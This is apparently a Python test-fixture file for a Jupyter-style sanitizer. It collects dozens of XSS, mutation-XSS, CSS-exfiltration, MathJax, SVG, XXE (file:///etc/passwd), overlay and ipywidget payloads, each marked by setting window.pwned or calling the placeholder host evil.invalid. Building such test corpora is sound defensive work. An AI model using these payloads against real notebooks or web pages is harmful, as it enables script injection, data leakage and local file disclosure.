"""What hostile code may show: each would set `window.pwned`, or ask `evil.invalid`, if a browser ran it.

`HTML`, `MARKDOWN`, `LATEX`, `SVG`: text of that type, by name. `BUNDLES`: whole MIME bundles with metadata.
`WIDGETS`: code for the sandbox, which shows a widget with ipywidgets.
"""

# ruff: noqa: E501 - an attack stays on its line

from __future__ import annotations

import base64
from typing import Any

PWN = "window.pwned=1"
_B64 = base64.b64encode(b"<script>window.pwned=1</script>").decode()

HTML: dict[str, str] = {
    "script": f"<script>{PWN}</script>",
    "script upper": f"<SCRIPT>{PWN}</SCRIPT >",
    "script src": "<script src=https://evil.invalid/x.js></script>",
    "script module": f"<script type=module>{PWN}</script>",
    "script in script": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "script with nul": f"<\0script>{PWN}</script>",
    "script with escape": f"<scr\x1b[0mipt>{PWN}</script>",
    "script slash": f"<script/x>{PWN}</script>",
    "img onerror": f"<img src=x onerror={PWN}>",
    "img onerror slashes": f"<img/src=x/onerror={PWN}>",
    "img onerror quoted": f"<img src='x' onerror='{PWN}'>",
    "img onerror newline": f"<img src=x\nonerror\n=\n{PWN}>",
    "img onerror entity": "<img src=x onerror=&#119;indow.pwned=1>",
    "img unclosed": f"<img src=x onerror={PWN} ",
    "img srcset": "<img srcset='https://evil.invalid/x 1x'>",
    "img remote": "<img src=https://evil.invalid/x.png>",
    "img protocol relative": "<img src=//evil.invalid/x.png>",
    "img host path": "<img src=/api/contents>",
    "image tag": f"<image src=x onerror={PWN}>",
    "svg onload": f"<svg onload={PWN}></svg>",
    "svg slash onload": f"<svg/onload={PWN}>",
    "svg script": f"<svg><script>{PWN}</script></svg>",
    "svg script href": "<svg><script href='data:text/javascript,window.pwned=1'/></svg>",
    "svg animate": "<svg><a><animate attributeName=href values='javascript:window.pwned=1'/><text>x</text></a></svg>",
    "svg set": f"<svg><set attributeName=onload to='{PWN}'/></svg>",
    "svg foreignObject": f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>",
    "svg use": "<svg><use href='https://evil.invalid/x.svg#a'/></svg>",
    "svg style": "<svg><style>@import 'https://evil.invalid/x.css'</style></svg>",
    "math link": "<math><mtext href='javascript:window.pwned=1'>x</mtext></math>",
    "math action": "<math><maction actiontype='statusline#x' xlink:href='javascript:window.pwned=1'>x</maction></math>",
    "mxss math style": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={PWN}>'>",
    "mxss svg style": f"<svg></p><style><a id='</style><img src=1 onerror={PWN}>'>",
    "mxss noscript": f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    "mxss template": f"<template><p title='</template><img src=x onerror={PWN}>'></template>",
    "mxss comment": f"<!--><img src=x onerror={PWN}>-->",
    "mxss comment bang": f"<!-- --!><img src=x onerror={PWN}>-->",
    "mxss cdata": f"<svg><![CDATA[</svg><img src=x onerror={PWN}>]]>",
    "mxss textarea": f"<textarea><p title='</textarea><img src=x onerror={PWN}>'>",
    "mxss title": f"<title><p title='</title><img src=x onerror={PWN}>'>",
    "mxss select": f"<select><style></select><img src=x onerror={PWN}></style>",
    "mxss form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    "mxss xmp": f"<xmp><p title='</xmp><img src=x onerror={PWN}>'>",
    "mxss plaintext": f"<plaintext><img src=x onerror={PWN}>",
    "mxss iframe": f"<iframe><p title='</iframe><img src=x onerror={PWN}>'>",
    "mxss backtick": f"<p title=`><img src=x onerror={PWN}>`>x",
    "mxss nested depth": "<div>" * 600 + f"<svg><style><a title='</style><img src=x onerror={PWN}>'>",
    "mxss table form": f"<table><form><td><form><svg><style><img src=x onerror={PWN}>",
    "javascript link": "<a href='javascript:window.pwned=1'>click</a>",
    "javascript link tab": "<a href='java\tscript:window.pwned=1'>click</a>",
    "javascript link entity": "<a href='&#106;avascript:window.pwned=1'>click</a>",
    "data link": f"<a href='data:text/html;base64,{_B64}'>click</a>",
    "host link": "<a href='/lab/workspaces/x?reset' target=_top>click</a>",
    "area": "<map name=m><area href='javascript:window.pwned=1' coords=0,0,9,9></map><img usemap=#m>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    "iframe javascript": f"<iframe src='javascript:parent.{PWN}'></iframe>",
    "iframe sandboxed": "<iframe sandbox='allow-scripts allow-same-origin' src=https://evil.invalid/></iframe>",
    "object": f"<object data='data:text/html;base64,{_B64}'></object>",
    "embed": f"<embed src='data:text/html;base64,{_B64}'>",
    "portal": "<portal src=https://evil.invalid/></portal>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "base": "<base href=https://evil.invalid/>",
    "link sheet": "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "link preconnect": "<link rel=preconnect href=https://evil.invalid>",
    "form": "<form action=https://evil.invalid/><input name=a><button>send</button></form>",
    "button formaction": "<button formaction='javascript:window.pwned=1'>x</button>",
    "input autofocus": f"<input autofocus onfocus={PWN}>",
    "input image": "<input type=image src=https://evil.invalid/x>",
    "details ontoggle": f"<details open ontoggle={PWN}>x</details>",
    "body onload": f"<body onload={PWN}>",
    "video poster": "<video poster=https://evil.invalid/x src=https://evil.invalid/y></video>",
    "video error": f"<video><source onerror={PWN}></video>",
    "audio remote": "<audio src=https://evil.invalid/x autoplay></audio>",
    "marquee": f"<marquee onstart={PWN}>x</marquee>",
    "animation event": f"<p style='animation:x' onanimationstart={PWN}>x",
    "command linker": "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>x</button>",
    "command linker link": "<a data-commandlinker-command='kernelmenu:restart' href='#'>x</a>",
    "lab classes": "<div class='jp-Dialog lm-Widget jp-mod-accept'>Password</div>",
    "lab id": "<div id='jp-main-dock-panel'>x</div><p id=cookie>x",
    "overlay": "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "overlay margin": "<div style='margin:-5000px;width:9999px'>x</div>",
    "style url": "<p style='background:url(https://evil.invalid/x)'>x",
    "style url escaped": "<p style='background:\\75rl(https://evil.invalid/x)'>x",
    "style image-set": "<p style='background-image:image-set(\"https://evil.invalid/x\" 1x)'>x",
    "style expression": "<p style='width:expression(window.pwned=1)'>x",
    "style var": "<p style='--a:url(https://evil.invalid/x);background:var(--a)'>x",
    "sheet": "<style>body{display:none} .jp-Toolbar{background:url(https://evil.invalid/x)}</style>x",
    "sheet import": "<style>@import 'https://evil.invalid/x.css';</style>x",
    "sheet attribute": "<style>#T_abc12 input[value^=a]{background:url(https://evil.invalid/a)}</style>x",
    "sheet sibling": "<style>#T_abc12 ~ *{display:none} #T_abc12+*{color:red}</style>x",
    "sheet breaks out": f"<style>#T_abc12 p{{color:red}}</style ><img src=x onerror={PWN}>",
    "sheet font": "<style>@font-face{font-family:x;src:url(https://evil.invalid/x)}</style>x",
    "mathjax href": "$\\href{javascript:window.pwned=1}{click}$",
    "mathjax split": "$\\hr<wbr>ef{javascript:window.pwned=1}{click}$",
    "mathjax comment": "$\\hr<!-- x -->ef{javascript:window.pwned=1}{click}$",
    "mathjax entity": "$&#92;href{javascript:window.pwned=1}{click}$",
    "mathjax style": "$\\style{position:fixed;top:0}{\\cssId{jp-main-dock-panel}{x}}$",
    "mathjax let": "$\\let\\x\\href \\x{javascript:window.pwned=1}{click}$",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "attribute breaks out": f"<p title='\"><img src=x onerror={PWN}>'>x",
    "attribute escape": f'<p title="a\x1b"onmouseover={PWN} x="">x',
    "attribute escape entity": f'<p title="a&#27;"onmouseover={PWN} x="">x',
    "popover": f"<div popover id=x onbeforetoggle={PWN}>x</div><button popovertarget=x>y</button>",
    "custom element": f"<x-a onfocus={PWN} tabindex=1 autofocus>x</x-a>",
    "is attribute": "<p is=x-a slot=x part=y>x",
    "namespaced": f"<svg xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{PWN}</x:script></svg>",
    "processing": f"<?xml-stylesheet href='javascript:{PWN}'?><!DOCTYPE x [<!ENTITY a '<script>'>]>&a;",
}

MARKDOWN: dict[str, str] = {
    **{f"html {name}": text for name, text in HTML.items() if not name.startswith("mathjax")},
    "link javascript": "[click](javascript:window.pwned=1)",
    "link entity": "[click](&#106;avascript:window.pwned=1)",
    "link reference": "[click][a]\n\n[a]: javascript:window.pwned=1",
    "autolink": "<javascript:window.pwned=1>",
    "image": "![x](https://evil.invalid/x.png)",
    "image title": '![x](https://evil.invalid/x.png "\\" onerror=window.pwned=1 ")',
    "math": "$$\\href{javascript:window.pwned=1}{click}$$",
    "math emphasis": "$\\h*r*ef{javascript:window.pwned=1}{click}$",
    "math escape": "$\\\\href{javascript:window.pwned=1}{click}$",
    "mermaid": "```mermaid\ngraph TD; A-->B; click A href 'javascript:window.pwned=1'\n```",
    "code": "`<script>window.pwned=1</script>`",
}

LATEX: dict[str, str] = {
    "href": r"$\href{javascript:window.pwned=1}{x}$",
    "require": r"$\require{html}\href{javascript:window.pwned=1}{x}$",
    "def": r"$\def\a{\href}\a{javascript:window.pwned=1}{x}$",
    "let": r"$\let\a\href\a{javascript:window.pwned=1}{x}$",
    "newcommand": r"$\newcommand{\a}{x}\a$",
    "style": r"$\style{background:url(https://evil.invalid/x)}{x}$",
    "class": r"$\class{jp-Dialog}{x}\cssId{y}{z}$",
    "mmlToken": r"$\mmlToken{mtext}[href='javascript:window.pwned=1']{x}$",
    "data": r"$\data{commandlinker-command=terminal:create-new}{x}$",
    "unicode": r"$\unicode[url(https://evil.invalid/x)]{65}$",
    "bbox": r"$\bbox[url(https://evil.invalid/x)]{x}$",
}

SVG: dict[str, str] = {
    "script": f"<svg><script>{PWN}</script><circle r='9'/></svg>",
    "onload": f"<svg onload='{PWN}'><circle r='9'/></svg>",
    "namespaced script": f"<svg xmlns:a='http://www.w3.org/2000/svg'><a:script>{PWN}</a:script></svg>",
    "html": f"<svg><h:script xmlns:h='http://www.w3.org/1999/xhtml'>{PWN}</h:script></svg>",
    "foreignObject": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{PWN}'/></foreignObject></svg>",
    "link": "<svg><a href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "xlink": "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:window.pwned=1'><text>x</text></a></svg>",
    "remote image": "<svg><image href='https://evil.invalid/x.png'/></svg>",
    "svg image": f"<svg><image href='data:image/svg+xml;base64,{_B64}'/></svg>",
    "use data": "<svg><use href='data:image/svg+xml,x#a'/></svg>",
    "animate": "<svg><animate onbegin='window.pwned=1' attributeName='x' dur='1s'/></svg>",
    "set": "<svg><set attributeName='href' to='javascript:window.pwned=1'/></svg>",
    "handler": f"<svg><handler type='text/javascript'>{PWN}</handler></svg>",
    "fill url": "<svg><rect fill='url(https://evil.invalid/x#a)'/></svg>",
    "style url": "<svg><rect style='fill:url(https://evil.invalid/x#a);position:fixed'/></svg>",
    "style sheet": "<svg><style>@import url(https://evil.invalid/x)</style></svg>",
    "processing": "<?xml-stylesheet href='https://evil.invalid/x.xsl'?><svg/>",
    "entity": "<!DOCTYPE svg [<!ENTITY a '<script>window.pwned=1</script>'>]><svg>&a;</svg>",
    "external entity": "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg><text>&a;</text></svg>",
    "bombs": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><svg><text>&b;</text></svg>",
    "not closed": f"<svg></svg><script>{PWN}</script>",
    "html root": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{PWN}</script></html>",
}

BUNDLES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    **{f"html: {name}": ({"text/html": text, "text/plain": "x"}, {}) for name, text in HTML.items()},
    **{f"markdown: {name}": ({"text/markdown": text}, {}) for name, text in MARKDOWN.items()},
    **{f"latex: {name}": ({"text/latex": text}, {}) for name, text in LATEX.items()},
    **{f"svg: {name}": ({"image/svg+xml": text}, {}) for name, text in SVG.items()},
    "javascript": ({"application/javascript": PWN}, {}),
    "text javascript": ({"text/javascript": PWN}, {}),
    "isolated": (
        {"text/html": f"<script>parent.{PWN}</script>"},
        {"text/html": {"isolated": True}, "isolated": True},
    ),
    "png that is none": ({"image/png": f'x" onerror="{PWN}'}, {"image/png": {"width": f'1" onerror="{PWN}'}}),
    "png that is html": ({"image/png": _B64}, {}),
    "mime that breaks out": ({f'image/png" onerror="{PWN}': "iVBORw0KGgo="}, {}),
    "pdf": ({"application/pdf": _B64}, {}),
    "vega": (
        {
            "application/vnd.vegalite.v5+json": {
                "data": {"url": "https://evil.invalid/x.csv"},
                "mark": "point",
                "encoding": {"href": {"value": "javascript:window.pwned=1"}},
                "usermeta": {"embedOptions": {"loader": {}, "mode": "vega"}},
            }
        },
        {},
    ),
    "plotly": (
        {
            "application/vnd.plotly.v1+json": {
                "data": [
                    {"type": "scatter", "y": [1], "text": ["<a href='javascript:window.pwned=1'>x</a>"]}
                ],
                "layout": {"images": [{"source": "https://evil.invalid/x.png"}]},
                "config": {"plotlyServerURL": "https://evil.invalid"},
            }
        },
        {},
    ),
    "bokeh": (
        {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": PWN, "text/html": ""},
        {},
    ),
    "widget of another": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        {},
    ),
    "widget state": ({"application/vnd.jupyter.widget-state+json": {"state": {}}}, {}),
    "geojson": (
        {"application/geo+json": {}},
        {"application/geo+json": {"url_template": "https://evil.invalid/{x}"}},
    ),
    "html as a list": ({"text/html": ["<img src=x onerr", f"or={PWN}>"]}, {}),
    "fasta": ({"application/vnd.fasta.fasta": f"<img src=x onerror={PWN}>"}, {}),
    "terminal": ({"text/plain": "\x1b]8;;https://evil.invalid\x07click\x1b]8;;\x07\x1b[2J\x9b2J\u202e"}, {}),
}

_PAYLOAD = f'"<img src=x onerror={PWN}>"'
WIDGETS: dict[str, str] = {
    "HTML": f"import ipywidgets as w\ndisplay(w.HTML({_PAYLOAD}))",
    "HTMLMath": f"import ipywidgets as w\ndisplay(w.HTMLMath({_PAYLOAD}))",
    "HTMLMath href": (
        "import ipywidgets as w\ndisplay(w.HTMLMath(r'$\\href{javascript:window.pwned=1}{click}$'))"
    ),
    "HTML updated": f"import ipywidgets as w\nh = w.HTML('safe')\ndisplay(h)\nh.value = {_PAYLOAD}",
    "HTML placeholder": f"import ipywidgets as w\ndisplay(w.HTML('', placeholder={_PAYLOAD}))",
    "description": (
        f"import ipywidgets as w\ndisplay(w.Text(description={_PAYLOAD}, description_allow_html=True))"
    ),
    "Label": f"import ipywidgets as w\ndisplay(w.Label({_PAYLOAD}))",
    "options": f"import ipywidgets as w\ndisplay(w.ToggleButtons(options=[{_PAYLOAD}], tooltips=[{_PAYLOAD}]))",
    "tab title": f"import ipywidgets as w\ndisplay(w.Tab([w.Label('x')], titles=[{_PAYLOAD}]))",
    "tags": f"import ipywidgets as w\ndisplay(w.TagsInput(value=[{_PAYLOAD}]))",
    "tooltip": f"import ipywidgets as w\ndisplay(w.Button(description='x', tooltip={_PAYLOAD}))",
    "Output": (
        "import ipywidgets as w\ndisplay(w.Output(outputs=({'output_type': 'display_data', 'metadata': {}, "
        f"'data': {{'text/html': {_PAYLOAD}, 'application/javascript': '{PWN}'}}}},)))"
    ),
    "Output captures": (
        f"import ipywidgets as w\nfrom IPython.display import HTML\no = w.Output()\ndisplay(o)\nwith o: display(HTML({_PAYLOAD}))"
    ),
    "layout url": (
        "import ipywidgets as w\nb = w.Button(description='x')\nb.layout.width = 'url(https://evil.invalid/x)'\n"
        "b.style.button_color = 'url(https://evil.invalid/x)'\ndisplay(b)"
    ),
    "classes": "import ipywidgets as w\nb = w.Label('x')\nb.add_class('jp-Dialog')\ndisplay(b)",
    "link past the gate": (
        f"import ipywidgets as w\nt, h = w.Text({_PAYLOAD}), w.HTML('x')\nl = w.jslink((t, 'value'), (h, 'value'))\n"
        "display(t, h)"
    ),
    "Image from afar": (
        "import ipywidgets as w\ndisplay(w.Image(value=b'https://evil.invalid/x.png', format='url'))"
    ),
    "Image of SVG": (
        f"import ipywidgets as w\ndisplay(w.Image(value=b\"<svg onload='{PWN}'/>\", format='svg+xml'))"
    ),
    "FileUpload": "import ipywidgets as w\ndisplay(w.FileUpload())",
    "another view": (
        f"import ipywidgets as w\nclass T(w.Text):\n    _view_name = __import__('traitlets').Unicode('HTMLView').tag(sync=True)\n"
        f"display(T({_PAYLOAD}))"
    ),
    "anywidget": (
        "import ipywidgets as w, traitlets as t\nclass A(w.DOMWidget):\n"
        "    _model_module = t.Unicode('anywidget').tag(sync=True)\n    _model_name = t.Unicode('AnyModel').tag(sync=True)\n"
        "    _view_module = t.Unicode('anywidget').tag(sync=True)\n    _view_name = t.Unicode('AnyView').tag(sync=True)\n"
        f"    _esm = t.Unicode('export default {{render(){{{PWN}}}}}').tag(sync=True)\ndisplay(A())"
    ),
    "another target": "from comm import create_comm\ncreate_comm(target_name='jupyter.lab', data={'x': 1})",
    "circle": "import ipywidgets as w\nv = w.VBox()\ndisplay(v)\nv.children = [v]",
}
